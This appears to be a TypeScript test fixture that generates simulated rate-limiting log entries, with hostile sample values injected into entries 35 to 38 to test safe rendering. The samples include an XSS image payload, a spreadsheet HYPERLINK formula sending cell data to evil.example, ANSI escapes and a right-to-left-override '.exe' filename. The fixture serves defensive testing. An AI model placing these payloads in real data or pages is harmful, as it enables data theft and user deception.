import type { EventEntry, TimedEvent } from '../../src/simulator/events.ts';

/** Of all entries added here, and of no others. */
export const OWN_HOST = 'own.example';
/** What nobody should see run, turn the line round, or widen the screen. */
export const HOSTILE = {
  markup: '<img src=x onerror=alert(1)>',
  formula: `=HYPERLINK("https://evil.example/?x="&A1,"click")`,
  escape: '\u001b[31mred\u001b[0m',
  reversed: 'safe\u202egpj.exe',
  arabic: 'https://مثال.example/مسار',
  long: `https://${OWN_HOST}/${'a'.repeat(65_536)}`,
};

const COUNTRIES = ['DE', 'FR', 'JP', 'DE'];
const stamp = (ms: number) => `${new Date(ms).toISOString().slice(0, 19)}:000007Z`;

/** What the log says, under the newer or the older generation of names. */
function ownEntry(index: number, atMs: number): EventEntry {
  const names = index % 2 === 0 ? 'Enforcement' : 'Action';
  // Milliseconds as documented, or seconds.
  const start = index % 2 === 0 ? 1_790_000_000_500 : 1_790_000_000;
  return {
    id: `own-${index}`,
    Status: 'HTTP_STATUS_FORBIDDEN',
    'Epoch Time': atMs / 1_000 + 0.000007,
    Timestamp: stamp(atMs),
    [`Rate Limiting ${names} Type`]: index % 4 < 2 ? 'CUSTOM-RESPONSE' : 'DROP-REQUEST',
    'Client IP': `203.0.113.${1 + (index % 3)}`,
    URL: `https://${OWN_HOST}/p${index % 5}`,
    Host: OWN_HOST,
    Referer: '',
    'User Agent': 'curl/8.16.0',
    'Country Code': COUNTRIES[index % COUNTRIES.length] ?? '',
    'Request Method': 'HTTP_METHOD_GET',
    [`Rate Limiting ${names} Rule ID`]: `rule-${index % 2}`,
    [`Rate Limiting ${names} Tuple ID`]: 'own-tuple',
    [`Rate Limiting ${names} Start Epoch`]: start,
    [`Rate Limiting ${names} Percentage`]: 87.5,
    [`Rate Limiting ${names} Duration`]: 600,
  };
}

/** Forty entries from a moment on, a second apart. The last ones hold what someone made up to do harm. */
export function ownEntries(fromMs: number): TimedEvent[] {
  const changes: Readonly<Record<number, EventEntry>> = {
    35: { URL: HOSTILE.long, [HOSTILE.markup]: HOSTILE.escape },
    36: { 'User Agent': HOSTILE.formula, Referer: HOSTILE.arabic },
    37: { 'User Agent': HOSTILE.reversed, Referer: HOSTILE.escape },
    // Its two times disagree by an hour.
    38: { URL: HOSTILE.markup, Timestamp: stamp(fromMs - 3_600_000) },
  };
  return Array.from({ length: 40 }, (_, index) => {
    const atMs = fromMs + index * 1_000;
    return { atMicros: atMs * 1_000 + 7, entry: { ...ownEntry(index, atMs), ...changes[index] } };
  });
}
